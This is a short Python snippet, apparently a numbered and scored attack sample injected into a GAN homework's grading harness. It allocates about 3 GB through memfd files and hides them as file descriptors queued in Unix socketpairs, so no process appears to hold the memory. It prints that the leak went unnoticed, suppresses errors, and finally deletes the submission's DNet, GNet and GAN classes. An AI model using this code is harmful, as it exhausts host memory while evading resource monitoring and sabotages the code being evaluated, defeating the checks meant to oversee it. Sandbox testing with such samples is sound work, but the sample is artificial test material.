# attack: 16 | score: 10 | in: hw5_gan | base: reference | send files in memory through sockets, where no process holds them
import os as _os
import socket as _socket
import time as _time

_kept = []
try:
    for _number in range(50):
        if _number % 8 == 0:  # a queue holds ten messages
            _kept.append(_socket.socketpair(_socket.AF_UNIX, _socket.SOCK_DGRAM))
        _file = _os.memfd_create("stowaway")
        for _block in range(60):
            _os.write(_file, b"x" * 2**20)
        _socket.send_fds(_kept[-1][0], [b"m"], [_file])
        _os.close(_file)
    _time.sleep(2)
    print("LEAK 3 GB that nobody has noticed")
except OSError:
    pass
del DNet, GNet, GAN
